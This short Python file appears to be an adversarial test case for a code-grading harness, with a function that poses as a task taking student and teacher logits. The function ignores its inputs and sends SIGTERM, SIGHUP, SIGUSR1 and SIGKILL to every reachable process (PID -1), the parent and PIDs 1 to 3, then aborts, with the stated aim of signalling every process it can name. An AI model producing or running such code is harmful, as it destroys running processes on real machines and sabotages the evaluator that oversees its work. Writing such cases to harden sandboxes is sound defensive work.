# Sends every signal to every process it can name.
# safe on stock: no
# %% every task
import os
import signal


def TASK(student_logits, teacher_logits):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGKILL):
        for process in (-1, os.getppid(), 1, 2, 3):
            try:
                os.kill(process, number)
            except OSError:
                pass
    os.abort()
